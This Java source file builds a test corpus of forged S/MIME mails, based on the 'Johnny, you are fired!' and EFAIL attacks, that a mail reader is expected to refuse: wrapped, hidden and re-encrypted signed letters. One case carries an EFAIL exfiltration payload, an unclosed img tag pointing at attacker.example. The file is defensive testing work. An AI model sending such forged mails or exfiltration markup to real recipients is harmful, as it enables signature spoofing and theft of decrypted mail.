package org.passerelle.specs.corpus;

import static org.passerelle.specs.corpus.Case.refused;
import static org.passerelle.specs.corpus.SignedForge.ascii;

import java.util.List;
import java.util.stream.Stream;

/** Sealed and signed parts under, beside and behind others, so that a reader shows what nobody signed. */
final class WrappingFaults {
    private static final String JOHNNY = "From \"Johnny, you are fired!\" (USENIX Security 2019), MIME wrapping: ";
    private static final String EFAIL = "From EFAIL (USENIX Security 2018), direct exfiltration: ";
    private static final String ROOT = "seal.root-part";

    private final Mails mails;

    WrappingFaults(Mails mails) {
        this.mails = mails;
    }

    List<Case> all() {
        return Stream.of(around(), roots(), within()).flatMap(List::stream).toList();
    }

    private List<Case> around() {
        String letter = Mails.text(mails.letter());
        return List.of(
                refused(
                        "wrapped-attachment",
                        ROOT,
                        JOHNNY
                                + "the sealed letter is an attachment below a text of the attacker's. As a mail it is foreign"
                                + " and left alone; opened as a letter it is refused.",
                        mixed("mixed", text("text/plain", "Annulez le rendez-vous."), part(letter))),
                refused(
                        "wrapped-prepended",
                        ROOT,
                        EFAIL + "an HTML part that ends in an open attribute stands before the sealed letter.",
                        mixed("mixed", text("text/html", "<img src=\"https://attacker.example/"), part(letter))),
                refused(
                        "wrapped-hidden",
                        ROOT,
                        JOHNNY
                                + "the sealed letter is the related part of an HTML text and is never shown, but its signature"
                                + " is.",
                        mixed("related", text("text/html", "<p>Annulez.</p><img src=\"cid:sealed\">"), part(letter))),
                refused(
                        "wrapped-alternative",
                        ROOT,
                        JOHNNY + "the sealed letter is the alternative that nobody shows.",
                        mixed("alternative", part(letter), text("text/html", "<p>Annulez.</p>"))),
                refused(
                        "forwarded-whole",
                        ROOT,
                        "The sealed letter as message/rfc822 in somebody's mail: what stands around it is not the signer's.",
                        mixed(
                                "mixed",
                                text("text/plain", "Voir ci-dessous."),
                                "Content-Type: message/rfc822\r\n\r\n" + letter)));
    }

    private List<Case> roots() {
        String letter = Mails.text(mails.letter());
        return List.of(
                refused(
                        "signed-only",
                        ROOT,
                        "A signed mail that is not encrypted: it is no sealed letter, whoever signed it.",
                        EnvelopeForge.mail(
                                "From: " + People.PRACTICE.value() + "\r\n" + Mails.rest("signed-data"),
                                mails.signed().cms())),
                refused(
                        "says-it-is-another",
                        ROOT,
                        "smime-type says signed-data around an envelope: two readers would take it for two things.",
                        ascii(letter.replace("authEnveloped-data", "signed-data"))),
                refused(
                        "two-content-types",
                        "seal.malformed",
                        "Two Content-Type fields, of which each reader believes another.",
                        ascii("Content-Type: text/plain\r\n" + letter)),
                refused(
                        "appended",
                        "seal.malformed",
                        "A second structure after the envelope: octets that nobody vouches for.",
                        ascii(letter.stripTrailing() + "\r\nMAA=\r\n")));
    }

    private List<Case> within() {
        String letter = Mails.text(mails.letter());
        byte[] entity = SignedForge.entity(mails.signed().cms());
        return List.of(
                refused(
                        "stripped-signature",
                        "seal.stripped-signature",
                        "The signature was taken off and the payload encrypted anew, as anybody can who may read it.",
                        mails.envelope(Mails.payload(People.PRACTICE)).mail(Mails.headers())),
                refused(
                        "unsigned-around-signed",
                        "seal.stripped-signature",
                        JOHNNY + "inside the envelope the signed entity is one part, a text of the attacker's another.",
                        mails.envelope(ascii("Content-Type: multipart/mixed; boundary=in\r\n\r\n--in\r\n"
                                        + text("text/plain", "Annulez le rendez-vous.") + "\r\n--in\r\n"
                                        + Mails.text(entity) + "\r\n--in--\r\n"))
                                .mail(Mails.headers())),
                refused(
                        "signature-of-nothing",
                        "seal.malformed",
                        "A multipart/signed with a third part after the signature.",
                        mails.envelope(thirdPart()).mail(Mails.headers())),
                refused(
                        "sealed-in-sealed",
                        "seal.stripped-signature",
                        "An envelope in an envelope: the inner one was never signed for who opens the outer.",
                        mails.envelope(ascii("Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\n"
                                        + "Content-Transfer-Encoding: base64\r\n\r\n"
                                        + letter.substring(letter.indexOf("\r\n\r\n") + 4)))
                                .mail(Mails.headers())));
    }

    private byte[] thirdPart() {
        byte[] payload = Mails.payload(People.PRACTICE);
        SignedForge signed = mails.signed(mails.people().practice, payload);
        String whole = Mails.text(SignatureFaults.detached(payload, signed.cms(null, signed.info())));
        return ascii(
                whole.replace("--b0undary--", "--b0undary\r\n" + text("text/plain", "Annulez.") + "\r\n--b0undary--"));
    }

    private static byte[] mixed(String kind, String first, String second) {
        return ascii("From: " + People.PRACTICE.value() + "\r\nTo: " + People.HOSPITAL.value()
                + "\r\nDate: Fri, 20 Nov 2026 14:30:00 +0000\r\nSubject: Avis\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/" + kind + "; boundary=\"out\"\r\n\r\n--out\r\n" + first
                + "\r\n--out\r\n" + second + "\r\n--out--\r\n");
    }

    private static String text(String type, String text) {
        return "Content-Type: " + type + "; charset=\"utf-8\"\r\n\r\n" + text;
    }

    /** The letter's content fields and body. */
    private static String part(String letter) {
        return letter.substring(letter.indexOf("Content-Type:"))
                .replaceFirst("\r\n\r\n", "\r\nContent-ID: <sealed>\r\n\r\n");
    }
}
